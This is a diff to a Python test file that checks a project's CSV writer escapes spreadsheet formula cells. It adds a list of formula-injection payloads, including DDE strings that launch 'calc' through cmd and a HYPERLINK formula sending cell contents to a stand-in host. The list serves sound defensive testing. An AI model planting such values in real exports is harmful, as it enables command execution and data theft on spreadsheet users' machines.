@@ -1,9 +1,14 @@
 """CSV text that is made column by column equals that of pandas, byte for byte."""
 
+import csv
+import io
+from pathlib import Path
+
 import numpy as np
 import pandas as pd
 import pytest
 
+import reward_ablation
 from reward_ablation.analysis.csv_text import csv_header, csv_lines
 
 RNG = np.random.default_rng(0)
@@ -21,7 +26,7 @@ COLUMNS = {
     "counts with gaps": pd.array(RNG.choice([1, 2, None], ROWS), dtype="Int64"),
     "flags": RNG.random(ROWS) < 0.5,
     "flags with gaps": pd.array(RNG.choice([True, False, None], ROWS), dtype="boolean"),
-    "texts": pd.Series(RNG.choice(["one", "two, 2", 'with "quotes"', "new\nline", "", "ä\r"], ROWS)),
+    "texts": pd.Series(RNG.choice(["one", "two, 2", 'with "quotes"', "new\nline", "", "ä"], ROWS)),
     "categories": pd.Categorical(RNG.choice(["one", "two, 2"], ROWS)),
     "all kinds": RNG.choice(np.array([1, True, 1.0, "x", 0.1, None, np.float64(0.25)], dtype=object), ROWS),
 }
@@ -38,3 +43,32 @@ def test_a_table_without_rows_has_a_header_only():
     frame = pd.DataFrame(columns=["a", "b, c"])
     assert csv_header(frame) == b'a,"b, c"\n'
     assert not list(csv_lines(frame))
+
+
+RUN_BY_SPREADSHEETS = [
+    "=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", '=HYPERLINK("http://x.y/?"&A1,"a, b")',
+    "\t=1", "\r=1", "\n=1", "  =1", "＝1", "－1x", "-x", "-", "--1", "-1,a",
+]  # fmt: skip
+LEFT_AS_THEY_ARE = [
+    "-1", "+1", "-0.5", "-.5", "-1e-05", "-1,234.5", "-5%", "-inf", "72", "a = b", "x-1", "'=1", "", " a", "(-1)",
+    "x\r=1", "x\n=1",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", ["str", "category", object])
+def test_a_spreadsheet_runs_no_cell(kind):
+    texts = [*RUN_BY_SPREADSHEETS, *LEFT_AS_THEY_ARE]
+    frame = pd.DataFrame({"@text": pd.Series(texts).astype(kind), "number": range(-2, len(texts) - 2)})
+    written = csv_header(frame) + b"".join(map(bytes, csv_lines(frame)))
+    header, *rows = csv.reader(io.StringIO(written.decode(), newline=""))
+    assert header == ["'@text", "number"]
+    assert [text for text, _ in rows] == [*(f"'{text}" for text in RUN_BY_SPREADSHEETS), *LEFT_AS_THEY_ARE]
+    assert [int(number) for _, number in rows] == [*range(-2, len(texts) - 2)]
+
+
+def test_no_csv_file_is_written_but_by_this_module():
+    """Whatever writes CSV by another way would miss the apostrophes."""
+    package = Path(reward_ablation.__file__).parent
+    others = [path for path in package.rglob("*.py") if path.name != "csv_text.py"]
+    writers = ("to_csv(", "csv.writer", "DictWriter", "pyarrow.csv")
+    assert [path for path in others if any(word in path.read_text() for word in writers)] == []
